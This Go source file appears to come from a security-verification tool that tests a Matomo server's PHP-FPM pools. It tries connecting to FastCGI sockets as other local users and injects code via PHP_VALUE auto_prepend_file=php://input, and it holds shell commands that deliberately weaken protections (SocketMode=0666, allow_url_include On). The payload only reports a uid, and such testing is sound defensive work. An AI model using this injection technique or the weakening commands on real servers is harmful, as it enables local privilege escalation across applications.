package prove

import (
	"context"
	"errors"
	"fmt"
	"io"
	"maps"
	"path"
	"slices"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"rocca/internal/facts"
	"rocca/internal/model"
	"rocca/internal/prove/fastcgi"
	"rocca/internal/run"
)

var a01 = Attack{
	ID:    "A01",
	Title: "another local user speaks FastCGI to a pool of Matomo",
	How: "A script that prints as which user it runs is put where every user could have put one. Every other local user, and every member of the socket's group, connects to each socket and port of the pools that run as a user of Matomo, " +
		"and asks for that script by FastCGI. On a throw-away server they also send the code in the request itself, by setting auto_prepend_file to php://input. The user of the front does the same first: for it, it must work. " +
		"Then each pool includes the body of a request (php://input), as somebody has it do who can choose what Matomo includes, and the pools of other applications tell as whom they run.",
	Risk:    "none: one request of a script of two lines for each user; no setting of a worker is changed on a server that is in use",
	Without: []Protection{socketMode, noRemoteInclude},
	Applies: func(t *Target) string {
		if len(t.ownPools()) == 0 {
			return "no pool of Matomo speaks FastCGI"
		}
		return ""
	},
	Attempt: attemptFastCGI,
}

var socketMode = Protection{
	ID:    "socket-mode",
	Title: "only root and the front may open the socket of the UI's pool",
	Part:  UISocket,
	Remove: `mkdir -p /etc/systemd/system/rocca-php@ui.socket.d
printf '[Socket]\nSocketMode=0666\n' >/etc/systemd/system/rocca-php@ui.socket.d/weak.conf
systemctl daemon-reload
systemctl stop rocca-php@ui.service
systemctl restart rocca-php@ui.socket
systemctl start rocca-php@ui.service`,
	Controls: []string{"ISO-03"},
}

var noRemoteInclude = Protection{
	ID:       "no-remote-include",
	Title:    "the UI's PHP includes files only, never an address",
	Part:     UIUnit,
	Remove:   withSetting("allow_url_include", "On"),
	Controls: []string{"PHP-03"},
}

// ownPools are the pools that speak FastCGI and run as a user of Matomo,
// whatever they serve: who connects to one is that user.
func (t *Target) ownPools() []facts.Pool {
	users := t.poolUsers()
	return slices.DeleteFunc(slices.Clone(t.PHP.Pools), func(p facts.Pool) bool {
		return p.Listen == "" || p.Role == "" && !slices.Contains(users, p.User)
	})
}

// whoami is the code that shows who runs it.
const whoami = `echo 'uid=', function_exists('posix_geteuid') ? posix_geteuid() : preg_replace('/.*^Uid:\s+\d+\s+(\d+).*/ms', '$1', file_get_contents('/proc/self/status'));`

func attemptFastCGI(ctx context.Context, t *Target, r *Record) error {
	for _, pool := range t.ownPools() {
		if err := t.connectAsOthers(ctx, r, pool); err != nil {
			return err
		}
	}
	for _, pool := range t.MatomoPools() {
		include := deed{What: "include code that came with the request", Where: "php://input", PHP: "return include 'php://input';", Body: "<?php ob_clean(); " + whoami + " return ob_get_contents();"}
		if err := t.tryInPool(ctx, r, pool, []deed{include}); err != nil {
			return err
		}
	}
	for _, pool := range t.OtherPools() {
		if slices.Contains(t.poolUsers(), pool.User) {
			who := deed{What: "run as a user of Matomo without breaking into Matomo", Where: "pool " + pool.Name, PHP: "ob_clean(); " + whoami + " return ob_get_contents();"}
			if err := t.tryInPool(ctx, r, pool, []deed{who}); err != nil {
				return err
			}
		}
	}
	return nil
}

// connectAsOthers speaks to a pool as every user who has no business there.
func (t *Target) connectAsOthers(ctx context.Context, r *Record, pool facts.Pool) error {
	user, known := t.Users[pool.User]
	if !known {
		return fmt.Errorf("speak FastCGI to the pool %s: its user %s is not known", pool.Name, pool.User)
	}
	dir := path.Join(scriptDir(pool), Canary())
	script := path.Join(dir, "x.php")
	if err := errors.Join(t.PlantDir(dir, "root", 0o755), t.Plant(script, "nobody", 0o444, "<?php "+whoami)); err != nil {
		return err
	}
	front := t.Front.User
	if front == "" {
		front = "root"
	}
	for _, address := range t.addresses(pool) {
		if err := mustBeOwnPool(address); err != nil {
			return err
		}
		request := scriptRequest(script, "")
		if told := speakAs(ctx, front, address, request); told.uid != user.UID {
			return fmt.Errorf("speak FastCGI to %s: not even the front can: %s", address, told.answer)
		}
		for _, name := range t.strangers(pool) {
			told := speakAs(ctx, name, address, request)
			if told.unclear {
				return fmt.Errorf("speak FastCGI to %s as %s: %s", address, name, told.answer)
			}
			try := model.Try{Who: "user " + name, What: "speak FastCGI", Where: address, Sent: "SCRIPT_FILENAME=" + script, Answer: told.answer, Fell: told.uid == user.UID}
			if try.Fell {
				try.Answer += ", which is " + pool.User
				try.Reproduce = t.connectAgain(name, address, pool)
			}
			r.Try(try)
			if try.Fell && t.Throwaway {
				t.prependAs(ctx, r, name, address, pool)
			}
		}
	}
	return nil
}

// addresses are where a pool can be spoken to: what its settings say, and every
// port that its master has open.
func (t *Target) addresses(pool facts.Pool) []string {
	all := []string{fastcgi.Address(pool.Listen)}
	shared := slices.ContainsFunc(t.PHP.Pools, func(p facts.Pool) bool { return p.Master == pool.Master && p.Name != pool.Name })
	for _, l := range t.Listeners {
		if l.Unit == pool.Master && l.Protocol != "udp" && !shared {
			all = append(all, fastcgi.Address(l.Address+":"+strconv.Itoa(l.Port)))
		}
	}
	slices.Sort(all)
	return slices.Compact(all)
}

// strangers are the users who must not reach a pool: all but its own and the
// front's. Who is in the group of its socket is among them.
func (t *Target) strangers(pool facts.Pool) []string {
	names := t.Others(pool.User, t.Front.User)
	for _, name := range slices.Sorted(maps.Keys(t.Users)) {
		u := t.Users[name]
		member := u.Group == pool.OwnGroup || slices.Contains(t.Groups[pool.OwnGroup].Members, name)
		if pool.OwnGroup != "" && member && u.UID != 0 && !slices.Contains([]string{pool.User, t.Front.User}, name) && !slices.Contains(names, name) {
			names = append(names, name)
		}
	}
	return names
}

// spoken is what came of speaking FastCGI.
type spoken struct {
	answer  string
	uid     int  // that ran the code; -1 when it did not run
	unclear bool // whether it ran cannot be told
}

// speakPatience is how long a pool may take for a script of one line.
const speakPatience = 5 * time.Second

func speakAs(ctx context.Context, name, address string, request fastcgi.Request) spoken {
	ctx, cancel := context.WithTimeoutCause(ctx, speakPatience, errors.New("no answer"))
	defer cancel()
	var answer fastcgi.Response
	err := As(name, func() (err error) {
		answer, err = fastcgi.Do(ctx, address, request)
		return err
	})
	return judgeSpoken(answer, err)
}

// judgeSpoken tells a refusal from code that ran. What is neither is unclear.
func judgeSpoken(answer fastcgi.Response, err error) spoken {
	if _, text, found := strings.Cut(string(answer.Body), "uid="); err == nil && found {
		digits := text[:len(text)-len(strings.TrimLeft(text, "0123456789"))]
		if uid, err := strconv.Atoi(digits); err == nil {
			return spoken{answer: "code ran as uid " + digits, uid: uid}
		}
	}
	for _, refusal := range []error{unix.EACCES, unix.EPERM, unix.ECONNREFUSED, unix.ENOENT, unix.EHOSTUNREACH, unix.ENETUNREACH} {
		if errors.Is(err, refusal) {
			return spoken{answer: refusal.Error(), uid: -1}
		}
	}
	switch {
	case errors.Is(err, io.EOF), errors.Is(err, unix.ECONNRESET), errors.Is(err, unix.EPIPE):
		return spoken{answer: "connected, and the pool hung up", uid: -1} // listen.allowed_clients
	case err != nil:
		return spoken{answer: err.Error(), uid: -1, unclear: true}
	}
	return spoken{answer: fmt.Sprintf("an answer, though not of the code: %s %.100q", answer.Header, answer.Body), uid: -1, unclear: true}
}

// prependAs sends code in the request itself. A pool of PHP keeps settings that
// come by FastCGI as long as the worker lives; so they are set back by a second
// request to the same worker, on the same connection. As that may fail, this is
// for throw-away servers. They come as PHP_VALUE: what comes as PHP_ADMIN_VALUE
// no .user.ini can change any more, which A04 tries next.
func (t *Target) prependAs(ctx context.Context, r *Record, name, address string, pool facts.Pool) {
	ctx, cancel := context.WithTimeoutCause(ctx, speakPatience, errors.New("no answer"))
	defer cancel()
	settings := func(prepend, include string) string {
		return "auto_prepend_file=" + prepend + "\nallow_url_include=" + include + "\n"
	}
	code := "<?php " + whoami + " exit;"
	request := fastcgi.Request{Body: []byte(code), Params: map[string]string{
		"SCRIPT_FILENAME": path.Join(t.Matomo.Real, "index.php"), "SCRIPT_NAME": "/index.php", "REQUEST_METHOD": "POST", "CONTENT_LENGTH": strconv.Itoa(len(code)),
		"PHP_VALUE": settings("php://input", "1"),
	}}
	var answer fastcgi.Response
	err := As(name, func() error {
		conn, err := fastcgi.Dial(ctx, address)
		if err != nil {
			return err
		}
		defer conn.Close()
		answer, err = conn.Do(ctx, request)
		request.Params["PHP_VALUE"] = settings(pool.Value("auto_prepend_file", ""), pool.Value("allow_url_include", "0"))
		request.Params["SCRIPT_FILENAME"] = "/nonexistent.php"
		if _, back := conn.Do(ctx, request); err == nil && back != nil {
			return back
		}
		return err
	})
	told := judgeSpoken(answer, err)
	if told.unclear {
		return // the same user has run a script already
	}
	try := model.Try{Who: "user " + name, What: "send code by FastCGI", Where: address, Sent: "PHP_VALUE=" + settings("php://input", "1") + "\n" + code, Answer: told.answer, Fell: told.uid == t.Users[pool.User].UID}
	if try.Fell {
		try.Reproduce = t.connectAgain(name, address, pool)
	}
	r.Try(try)
}

// connectAgain is a command that speaks FastCGI as a user, and ends with 0 when
// code ran as the pool's.
func (t *Target) connectAgain(name, address string, pool facts.Pool) string {
	dir := path.Join(scriptDir(pool), canaryAgain)
	script := path.Join(dir, "x.php")
	ask := speakAgain(address, scriptRequest(script, ""))
	as := run.Quote(AsCommand(name, run.Command{}).Argv)
	return tidily(
		[]string{"(umask 022; mkdir -p " + dir + "; echo " + base64Text("<?php "+whoami) + " | base64 -d >" + script + ")"},
		as+" "+ask+" | tee /dev/stderr | grep -aq uid="+strconv.Itoa(t.Users[pool.User].UID),
		"rm -r "+dir)
}
